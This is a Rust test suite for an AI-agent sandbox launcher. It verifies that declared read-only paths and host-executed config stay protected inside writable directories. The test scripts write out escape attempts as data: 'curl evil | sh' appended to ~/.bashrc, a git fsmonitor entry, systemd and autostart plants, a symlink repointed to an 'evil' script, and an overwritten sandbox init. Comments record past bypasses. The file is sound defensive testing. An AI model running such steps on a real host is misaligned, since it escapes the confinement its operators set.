//! Read-only paths inside writable ones stay read-only: declared `--ro` paths cannot be
//! replaced by renaming an ancestor (issue 9 item 7), and the paths host programs run or obey
//! stay read-only inside a declared `--rw` path (issue 9 item 10) unless `--rw-host-config`
//! grants them.

use crate::common::*;

fn read(p: &std::path::Path) -> String {
    std::fs::read_to_string(p).unwrap_or_else(|e| format!("<{e}>"))
}

fn warnings(stderr: &str) -> Vec<&str> {
    stderr
        .lines()
        .filter_map(|l| l.strip_prefix("agent-sandbox: warning: "))
        .collect()
}

/// Issue 9 item 7: `mv .vscode .vscode.old && mkdir .vscode && echo x > .vscode/tasks.json`
/// replaced a read-only `.vscode/tasks.json` in the writable launch directory.
#[test]
fn a_read_only_path_cannot_be_replaced_by_renaming_an_ancestor() {
    for rel in ["tasks.json", ".vscode/tasks.json", "a/b/.vscode/tasks.json"] {
        let f = Fixture::new();
        let file = f.write(format!("home/proj/{rel}"), "orig\n");
        let dir = std::path::Path::new(rel).parent().unwrap();
        let top = dir
            .components()
            .next()
            .map(|c| c.as_os_str().to_string_lossy().into_owned());
        // Rename every ancestor inside the project (and the file itself), then plant.
        let mut script = String::new();
        let mut cur = std::path::PathBuf::new();
        for c in std::path::Path::new(rel).components() {
            cur.push(c);
            let p = cur.display();
            script.push_str(&format!(
                "mv '{p}' '{p}.old' 2>/dev/null && echo MOVED {p}; "
            ));
        }
        script.push_str(&format!(
            "mkdir -p '{}' 2>/dev/null; echo x > '{rel}' 2>/dev/null && echo WROTE; ",
            dir.display()
        ));
        // The allowed case: writing beside it.
        script.push_str(&format!(
            "echo y > '{}' && echo beside-ok",
            dir.join("other").display()
        ));
        let o = run(f.sh(&["--no-network", "--ro", rel], &script));
        assert_eq!(o.code, 0, "{rel}: {o:?}");
        assert_eq!(o.stdout, "beside-ok\n", "{rel}: {o:?}");
        assert_eq!(read(&file), "orig\n", "{rel}");
        if let Some(top) = top {
            assert!(!f.proj.join(format!("{top}.old")).exists(), "{rel}");
        }
    }
}

/// The same inside a declared read-write directory (`--rw ~/.claude --ro ~/.claude/sub/x`).
#[test]
fn a_read_only_path_in_a_declared_rw_dir_cannot_be_replaced() {
    let f = Fixture::new();
    let file = f.write("home/.claude/sub/x", "orig\n");
    let o = run(f.sh(
        &[
            "--no-network",
            "--rw",
            "~/.claude",
            "--ro",
            "~/.claude/sub/x",
        ],
        "cd ~/.claude; mv sub sub.old 2>/dev/null && echo MOVED; \
         mkdir -p sub; echo x > sub/x 2>/dev/null && echo WROTE; \
         echo y > sub/y && echo beside-ok",
    ));
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "beside-ok\n", "{o:?}");
    assert_eq!(read(&file), "orig\n");
    assert!(!f.home.join(".claude/sub.old").exists());
}

/// Issue 9 item 10: `--rw ~/.config` let the agent write `~/.config/git/config` (host git then
/// runs its fsmonitor), autostart entries and systemd user units.
#[test]
fn a_rw_config_dir_keeps_host_programs_config_read_only() {
    let f = Fixture::new();
    let git = f.write("home/.config/git/config", "[user]\n\tname = Me\n");
    std::fs::create_dir_all(f.home.join(".config/systemd/user")).unwrap();
    let o = run(f.sh(
        &["--no-network", "--rw", "~/.config"],
        "cd ~/.config; \
         printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> git/config 2>/dev/null && echo WROTE-git; \
         mv git git.old 2>/dev/null && echo MOVED-git; \
         echo '[Desktop Entry]' > autostart/x.desktop 2>/dev/null && echo WROTE-autostart; \
         rmdir autostart 2>/dev/null && echo REMOVED-autostart; \
         echo '[Service]' > systemd/user/x.service 2>/dev/null && echo WROTE-systemd; \
         mkdir -p environment.d fish/conf.d 2>/dev/null; \
         echo x > environment.d/x.conf 2>/dev/null && echo WROTE-environment; \
         echo x > fish/conf.d/x.fish 2>/dev/null && echo WROTE-fish; \
         mkdir -p other && echo ok > other/file && echo other-ok",
    ));
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "other-ok\n", "{o:?}");
    assert_eq!(read(&git), "[user]\n\tname = Me\n");
    assert_eq!(read(&f.home.join(".config/other/file")), "ok\n");
    // The missing ones were held by empty directories, and stayed empty.
    for d in ["autostart", "environment.d", "fish", "systemd/user"] {
        let entries: Vec<_> = std::fs::read_dir(f.home.join(".config").join(d))
            .unwrap()
            .collect();
        assert!(entries.is_empty(), "{d}: {entries:?}");
    }
    let w = warnings(&o.stderr);
    assert_eq!(w.len(), 1, "{o:?}");
    let c = f.home.join(".config");
    assert_eq!(
        w[0],
        format!(
            "kept read-only inside the sandbox, because programs on your host run or obey them: \
             {0}/git (git's global config, attributes and ignore rules), \
             {0}/fish (fish runs config.fish, conf.d and functions from it; created empty to hold its place), \
             {0}/systemd (systemd runs the user units in it), \
             {0}/autostart (the desktop session starts the entries in it; created empty to hold its place), \
             {0}/environment.d (systemd sets the session's environment from it; created empty to hold its place). \
             Fix: to let the agent write one anyway, pass --rw-host-config PATH (spec: rwHostConfig)",
            c.display()
        )
    );
}

#[test]
fn a_rw_bashrc_is_read_only_with_a_warning_and_rw_host_config_grants_it() {
    let f = Fixture::new();
    let rc = f.write("home/.bashrc", "# mine\n");
    let script = "echo 'curl evil | sh' >> ~/.bashrc 2>/dev/null && echo WROTE; cat ~/.bashrc";
    let o = run(f.sh(&["--no-network", "--rw", "~/.bashrc"], script));
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "# mine\n", "{o:?}");
    assert_eq!(read(&rc), "# mine\n");
    assert_eq!(
        warnings(&o.stderr),
        vec![format!(
            "kept read-only inside the sandbox, because programs on your host run or obey it: {} (bash runs it in every interactive shell). Fix: to let the agent write one anyway, pass --rw-host-config PATH (spec: rwHostConfig)",
            rc.display()
        )]
    );
    let o = run(f.sh(&["--no-network", "--rw-host-config", "~/.bashrc"], script));
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "WROTE\n# mine\ncurl evil | sh\n", "{o:?}");
    assert_eq!(warnings(&o.stderr), Vec::<&str>::new(), "{o:?}");
    // Inside a declared directory, too.
    let git = f.write("home/.config/git/config", "[user]\n");
    let o = run(f.sh(
        &[
            "--no-network",
            "--rw",
            "~/.config",
            "--rw-host-config",
            "~/.config/git",
        ],
        "echo '[core]' >> ~/.config/git/config && echo WROTE",
    ));
    assert_eq!(o.stdout, "WROTE\n", "{o:?}");
    assert_eq!(read(&git), "[user]\n[core]\n");
}

/// `bin` directories on the caller's PATH inside a declared read-write path, existing or not.
#[test]
fn path_dirs_in_a_rw_dir_are_read_only() {
    let f = Fixture::new();
    std::fs::create_dir_all(f.home.join(".local/bin")).unwrap();
    std::fs::create_dir_all(f.home.join("tools")).unwrap();
    let path = format!(
        "/usr/bin:/bin:{0}/.local/bin:{0}/tools/new/bin",
        f.home.display()
    );
    let mut c = f.sh(
        &["--no-network", "--rw", "~/.local", "--rw", "~/tools"],
        "echo x > ~/.local/bin/ls 2>/dev/null && echo WROTE-local; \
         mkdir -p ~/tools/new/bin 2>/dev/null && echo x > ~/tools/new/bin/ls 2>/dev/null && echo WROTE-tools; \
         echo x > ~/tools/y && echo tools-ok",
    );
    c.env("PATH", &path);
    let o = run(c);
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "tools-ok\n", "{o:?}");
    assert!(!f.home.join(".local/bin/ls").exists());
    // The missing one was held by an empty directory (its parent made a plain one).
    assert_eq!(
        std::fs::read_dir(f.home.join("tools/new/bin"))
            .unwrap()
            .count(),
        0
    );
    let w = warnings(&o.stderr);
    assert_eq!(w.len(), 1, "{o:?}");
    assert!(
        w[0].contains(&format!(
            "{}/.local/bin (~/.profile puts it on PATH)",
            f.home.display()
        )) && w[0].contains(&format!(
            "{}/tools/new/bin (on your PATH: your shell runs what is planted there; created empty to hold its place)",
            f.home.display()
        )),
        "{o:?}"
    );
}

/// An empty `~/.bash_profile` would stop bash running `~/.profile`: not created, refused.
/// (`--rw ~` is asked about on the terminal first: answered `y`.)
#[test]
fn a_bash_login_file_that_cannot_be_held_is_refused() {
    let f = Fixture::new();
    f.write("home/.profile", "# mine\n");
    let confirmed = |script: &str| {
        let c = f.sh(&["--no-network", "--rw", "~"], script);
        crate::guard::answer_on_tty(c, b"y\n").map(|(o, _)| o)
    };
    let Some(o) = confirmed("echo ran") else {
        eprintln!("SKIPPED a_bash_login_file_that_cannot_be_held_is_refused: no pty");
        return;
    };
    assert_eq!(o.code, 125, "{o:?}");
    assert_eq!(o.stdout, "", "{o:?}");
    let p = f.home.join(".bash_profile");
    assert!(
        o.stderr.contains(&format!(
            "{} does not exist, and the sandbox could keep the agent from creating it only by creating it empty, but bash would then run the empty file at login instead of {}",
            p.display(),
            f.home.join(".profile").display()
        )),
        "{o:?}"
    );
    assert!(!p.exists());
    // Created as the message says, the launch goes ahead and both are read-only.
    std::fs::write(&p, format!(". {}\n", f.home.join(".profile").display())).unwrap();
    let o = confirmed(
        "echo x >> ~/.profile 2>/dev/null && echo WROTE; echo x > ~/.bash_login 2>/dev/null && echo WROTE2; echo ran",
    )
    .unwrap();
    assert_eq!(o.stdout, "ran\n", "{o:?}");
    assert_eq!(read(&f.home.join(".profile")), "# mine\n");
}

/// Regression: a git pin inside a path declared read-only made it writable again
/// (`--ro src` with `core.hooksPath = src/hooks` pinned `src` read-write).
#[test]
fn a_git_pin_does_not_reopen_a_read_only_declared_dir() {
    let f = Fixture::new();
    let git = |args: &[&str]| {
        let ok = std::process::Command::new("git")
            .env("HOME", &f.home)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .arg("-C")
            .arg(&f.proj)
            .args(args)
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    std::fs::create_dir_all(f.proj.join("src/hooks")).unwrap();
    let file = f.write("home/proj/src/a", "orig\n");
    git(&["config", "core.hooksPath", "src/hooks"]);
    let o = run(f.sh(
        &["--no-network", "--ro", "src"],
        "echo pwn > src/a; echo y > src/new; touch src/hooks/post-checkout; \
         git status --porcelain >/dev/null && echo git-ok",
    ));
    assert_eq!(o.stdout, "git-ok\n", "{o:?}");
    assert_eq!(read(&file), "orig\n");
    assert!(!f.proj.join("src/new").exists());
    assert!(!f.proj.join("src/hooks/post-checkout").exists());
    // The allowed counterpart: the rest of the project stays writable.
    assert_eq!(
        ok(f.sh(&["--no-network", "--ro", "src"], "echo z > b && cat b")),
        "z\n"
    );
}

/// What a link on the caller's PATH leads to stays read-only in a declared read-write path:
/// `--rw ~/.local` must not let the agent rewrite the claude the host runs through
/// `~/.local/bin/claude` (its version directory under `~/.local/share`). Regression: only
/// the PATH directory itself was kept.
#[test]
fn what_a_link_on_path_leads_to_stays_read_only() {
    let f = Fixture::new();
    let version = f.home.join(".local/share/claude/versions/1.2.3");
    std::fs::create_dir_all(&version).unwrap();
    std::fs::create_dir_all(f.home.join(".local/bin")).unwrap();
    std::fs::write(version.join("claude"), "#!/bin/sh\necho real\n").unwrap();
    std::fs::write(version.join("lib.js"), "original\n").unwrap();
    std::os::unix::fs::symlink(version.join("claude"), f.home.join(".local/bin/claude")).unwrap();
    let path = format!("/usr/bin:/bin:{}/.local/bin", f.home.display());
    let script = "echo planted > ~/.local/share/claude/versions/1.2.3/claude 2>/dev/null && echo WROTE-bin; \
                  echo planted > ~/.local/share/claude/versions/1.2.3/lib.js 2>/dev/null && echo WROTE-lib; \
                  mv ~/.local/share/claude ~/.local/share/moved 2>/dev/null && echo MOVED; \
                  echo x > ~/.local/share/other && echo other-ok";
    let mut c = f.sh(&["--no-network", "--rw", "~/.local"], script);
    c.env("PATH", &path);
    let o = run(c);
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "other-ok\n", "{o:?}");
    assert_eq!(read(&version.join("claude")), "#!/bin/sh\necho real\n");
    assert_eq!(read(&version.join("lib.js")), "original\n");
    assert!(
        o.stderr.contains(&format!(
            "{} (a program on your PATH links to it",
            version.display()
        )),
        "{o:?}"
    );
    // rwHostConfig grants it, as for the other host-executed paths.
    let mut c = f.sh(
        &[
            "--no-network",
            "--rw",
            "~/.local",
            "--rw-host-config",
            "~/.local/share/claude",
        ],
        "echo updated > ~/.local/share/claude/versions/1.2.3/lib.js && echo granted",
    );
    c.env("PATH", &path);
    let o = run(c);
    assert_eq!(o.stdout, "granted\n", "{o:?}");
    assert_eq!(read(&version.join("lib.js")), "updated\n");
}

/// A link on the caller's PATH that leads through a second link in a read-write path: the
/// agent must not be able to repoint that second link at a program of its own, which the host
/// would then run as `mytool`. Regression: only the chain's end (and its directory) was kept
/// read-only, so `ln -sfn ../evil/x ~/.local/share/mytool/current` made the host run the
/// agent's script. The launch is refused (the link cannot be held), naming it;
/// rwHostConfig grants it.
#[test]
fn a_link_chain_from_path_through_a_read_write_path_is_refused() {
    let f = Fixture::new();
    let versions = f.home.join(".local/share/mytool/versions");
    std::fs::create_dir_all(&versions).unwrap();
    std::fs::create_dir_all(f.home.join(".local/bin")).unwrap();
    std::fs::write(versions.join("1.0"), "#!/bin/sh\necho real\n").unwrap();
    let current = f.home.join(".local/share/mytool/current");
    std::os::unix::fs::symlink("versions/1.0", &current).unwrap();
    std::os::unix::fs::symlink("../share/mytool/current", f.home.join(".local/bin/mytool"))
        .unwrap();
    let path = format!("/usr/bin:/bin:{}/.local/bin", f.home.display());
    let script = "mkdir -p ~/.local/share/evil && echo 'echo PWNED' > ~/.local/share/evil/x; \
                  ln -sfn ../evil/x ~/.local/share/mytool/current && echo REPOINTED; echo done";
    let mut c = f.sh(&["--no-network", "--rw", "~/.local"], script);
    c.env("PATH", &path);
    let o = run(c);
    assert_eq!(o.code, 125, "{o:?}");
    assert!(!o.stdout.contains("REPOINTED"), "{o:?}");
    assert!(
        o.stderr
            .contains(&format!("{} is a symlink", current.display())),
        "{o:?}"
    );
    assert_eq!(
        std::fs::read_link(&current).unwrap(),
        std::path::Path::new("versions/1.0")
    );
    // The allowed counterpart: granted with rwHostConfig, the link can be changed.
    let mut c = f.sh(
        &[
            "--no-network",
            "--rw",
            "~/.local",
            "--rw-host-config",
            "~/.local/share/mytool",
        ],
        "ln -sfn versions/2.0 ~/.local/share/mytool/current && echo granted",
    );
    c.env("PATH", &path);
    let o = run(c);
    assert_eq!(o.stdout, "granted\n", "{o:?}");
}

/// agent-sandbox's own executables in a declared read-write path stay read-only: the next
/// launch runs them on the host, the init also as the namespace holder outside any sandbox.
/// Regression: with `--rw` on the directory it was installed in (not on PATH), the agent
/// replaced agent-sandbox-init and the next launch ran its script unconfined.
#[test]
fn the_launchers_own_executables_stay_read_only() {
    let f = Fixture::new();
    let tools = f.home.join("tools");
    std::fs::create_dir_all(&tools).unwrap();
    let here = bin();
    for name in ["agent-sandbox", "agent-sandbox-init"] {
        std::fs::copy(here.with_file_name(name), tools.join(name)).unwrap();
    }
    let init = tools.join("agent-sandbox-init");
    let before = std::fs::metadata(&init).unwrap().len();
    let script = "printf '#!/bin/sh\\necho pwned\\n' > ~/tools/new && chmod +x ~/tools/new; \
                  mv ~/tools/new ~/tools/agent-sandbox-init 2>/dev/null && echo REPLACED-INIT; \
                  echo x >> ~/tools/agent-sandbox-init 2>/dev/null && echo APPENDED-INIT; \
                  cp ~/tools/agent-sandbox ~/tools/x 2>/dev/null; \
                  mv ~/tools/x ~/tools/agent-sandbox 2>/dev/null && echo REPLACED-HELPER; \
                  mv ~/tools ~/moved 2>/dev/null && echo MOVED; \
                  echo y > ~/tools/other && echo other-ok";
    let mut c = f.sh(&["--no-network", "--rw", "~/tools"], script);
    c.env("PATH", "/usr/bin:/bin");
    c.env("AGENT_SANDBOX_BIN", tools.join("agent-sandbox"));
    let mut c2 = std::process::Command::new(tools.join("agent-sandbox"));
    c2.args(c.get_args());
    c2.env_clear();
    for (k, v) in c.get_envs() {
        if let Some(v) = v {
            c2.env(k, v);
        }
    }
    c2.current_dir(&f.proj);
    let o = run(c2);
    assert_eq!(o.code, 0, "{o:?}");
    assert_eq!(o.stdout, "other-ok\n", "{o:?}");
    assert_eq!(std::fs::metadata(&init).unwrap().len(), before);
    assert!(
        o.stderr
            .contains(&format!("{} (agent-sandbox itself", init.display())),
        "{o:?}"
    );
}
